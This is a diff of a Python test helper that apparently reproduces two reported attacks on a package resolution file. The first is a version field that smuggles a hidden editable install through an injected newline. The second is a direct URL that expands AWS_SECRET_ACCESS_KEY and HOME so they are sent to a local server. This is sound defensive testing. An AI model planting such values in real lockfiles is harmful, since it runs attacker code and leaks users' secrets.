@@ -213,23 +213,24 @@ def planted_backend(folder: Path, marker: Path) -> None:
 
 
 def plant_pins(entry: Path, **fields: str) -> None:
-    """Rewrite the first pin of the resolution entry ``entry`` (a folder holding ``resolution.json``) with
+    """Rewrite purepkg's pin in the resolution entry ``entry`` (a folder holding ``resolution.json``) with
     ``fields`` (an attacker's text in a version, a wheel, a URL), and drop its hashes."""
     path = entry / "resolution.json"
     data = json.loads(path.read_text())
-    first = {"name": data["pins"][0]["name"], "version": "", "wheel": "", "url": "", "hashes": [], **fields}
-    data["pins"][0] = first
+    data["pins"] = [{"name": "purepkg", "version": "", "wheel": "", "url": "", "hashes": [], **fields}
+                    if pin["name"] == "purepkg" else pin for pin in data["pins"]]
     os.chmod(path, 0o644)
     path.write_text(json.dumps(data))
 
 
-def attacks(entry: Path, marker: Path, port: int) -> dict[str, dict[str, str]]:
+def attacks(entry: Path, marker: Path, port: int, unpacked: Path | None = None) -> dict[str, dict[str, str]]:
     """The two HIGH attacks of issue 22 on the resolution entry ``entry`` (the fields for :func:`plant_pins`): a
     comment line ending in a backslash that hides an editable install of a folder planted in the entry, and a
-    direct URL that uv would expand with the reader's secrets. ``planted_backend`` is put in ``entry/src``."""
+    direct URL that uv would expand with the reader's secrets. ``planted_backend`` is put in ``entry/src``;
+    ``unpacked``: where the reader's store would hold the entry (``entry`` itself for a local plant)."""
     planted_backend(entry / "src", marker)
     return {
-        "editable": {"version": f"1.0 # planted \\\n-e {entry}/src\n#"},
+        "editable": {"version": f"1.0 # planted \\\n-e {unpacked or entry}/src\n#"},
         "secret-url": {"url": f"http://127.0.0.1:{port}/x/${{AWS_SECRET_ACCESS_KEY}}/${{HOME}}/"
                               "purepkg-1.0-py3-none-any.whl"},
     }
